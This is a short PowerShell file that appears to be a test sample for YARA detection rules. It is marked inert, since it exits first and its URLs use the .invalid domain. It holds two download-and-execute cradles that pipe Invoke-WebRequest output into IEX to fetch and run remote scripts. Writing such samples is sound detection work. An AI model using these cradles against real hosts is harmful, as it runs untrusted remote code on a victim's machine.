# canhgac YARA test sample - inert: exits at once; URLs are under the reserved .invalid TLD
exit
Invoke-WebRequest -Uri http://example.invalid/x.ps1 -UseBasicParsing | IEX
(iwr http://example.invalid/y.ps1 -UseBasicParsing).Content | iex
